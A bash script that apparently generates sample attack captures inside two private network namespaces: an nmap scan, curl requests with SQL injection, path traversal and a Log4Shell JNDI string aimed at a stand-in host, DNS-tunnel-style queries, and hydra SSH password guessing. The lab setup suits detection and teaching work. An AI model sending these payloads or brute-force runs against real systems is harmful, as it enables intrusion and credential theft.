#!/usr/bin/env bash
# Records the demonstration attacks with real programs in two network namespaces of its own.
# Needs root, iproute2, tcpdump, nmap, curl, dig, hydra, sshd, python3. Writes *.pcap and auth.log here.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
work=$(mktemp -d)
victim=pikett-victim attacker=pikett-attacker
pids=()
finish() {
  for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
  ip netns del $victim 2>/dev/null || true
  ip netns del $attacker 2>/dev/null || true
  userdel demo-user 2>/dev/null || true
  rm -rf "$work"
}
trap finish EXIT
ip netns add $victim
ip netns add $attacker
ip link add v0 netns $victim type veth peer name a0 netns $attacker
ip -n $victim addr add 10.77.0.1/24 dev v0
ip -n $attacker addr add 10.77.0.66/24 dev a0
for ns in $victim $attacker; do
  ip -n $ns link set lo up
  ip netns exec $ns ethtool -K "$(ip -n $ns -o link | awk -F'[ :@]+' '/veth/{print $2}' | head -1)" tx off 2>/dev/null || true
done
ip -n $victim link set v0 up
ip -n $attacker link set a0 up

mkdir -p "$work/www"
echo "<html>hello</html>" >"$work/www/index.html"
(cd "$work/www" && exec ip netns exec $victim python3 -m http.server 80) >/dev/null 2>&1 &
pids+=($!)
cat >"$work/dns.py" <<'PY'
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("10.77.0.1", 53))
while True:
    q, peer = s.recvfrom(4096)
    end = q.index(b"\0", 12) + 5
    answer = b"\xc0\x0c\0\x10\0\1\0\0\0\x3c\0\x09\x08c2lsZW5j"
    s.sendto(q[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + q[12:end] + answer, peer)
PY
ip netns exec $victim python3 "$work/dns.py" &
pids+=($!)
sleep 1

record() { # name, command...
  local name=$1
  shift
  ip netns exec $victim tcpdump -q -U -i v0 -w "$here/$name.pcap" 'ip' 2>/dev/null &
  local dump=$!
  sleep 1
  ip netns exec $attacker "$@" >/dev/null 2>&1 || true
  sleep 1
  kill $dump
  wait $dump 2>/dev/null || true
}

record 1-scan nmap -n -Pn -sS --max-retries 1 --top-ports 300 10.77.0.1
record 2-web bash -c '
  curl -s "http://10.77.0.1/"
  curl -s -A "sqlmap/1.7.2#stable (https://sqlmap.org)" "http://10.77.0.1/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"
  curl -s "http://10.77.0.1/item?id=1%20OR%201=1"
  curl -s --path-as-is "http://10.77.0.1/static/../../../../etc/passwd"
  curl -s "http://10.77.0.1/cgi?f=..%2f..%2f..%2fetc%2fpasswd"
  curl -s -H "User-Agent: \${jndi:ldap://203.0.113.9:1389/a}" "http://10.77.0.1/"'
record 3-dns-tunnel bash -c '
  for i in $(seq 1 60); do
    name=$(head -c 30 /dev/urandom | base32 | tr -d = | tr A-Z a-z)
    dig +tries=1 +time=1 @10.77.0.1 TXT "$name.t.tunnel-demo.example"
  done'

# Password guessing against a real sshd, then a success; its own words become auth.log.
useradd -M -s /bin/true demo-user
echo 'demo-user:correct-horse' | chpasswd
ssh-keygen -q -t ed25519 -N '' -f "$work/key"
mkdir -p /run/sshd
ip netns exec $victim /usr/sbin/sshd -D -e -f /dev/null -h "$work/key" -o UsePAM=no -o PidFile=none \
  -o PasswordAuthentication=yes -o MaxAuthTries=10 -o MaxStartups=100 -p 22 2>"$work/sshd.err" &
pids+=($!)
sleep 1
printf '%s\n' 123456 password admin letmein qwerty root toor changeme dragon monkey >"$work/words"
ip netns exec $attacker hydra -q -t 2 -l demo-user -P "$work/words" ssh://10.77.0.1 >/dev/null 2>&1 || true
echo correct-horse >"$work/words"
ip netns exec $attacker hydra -q -t 1 -l demo-user -P "$work/words" ssh://10.77.0.1 >/dev/null 2>&1 || true
sleep 1
# TIME stands for the time of playing.
grep -E '^(Failed|Accepted|Invalid|Connection)' "$work/sshd.err" | tr -d '\r' |
  sed 's/^/TIME victim sshd[4711]: /' >"$here/auth.log"
ls -l "$here"
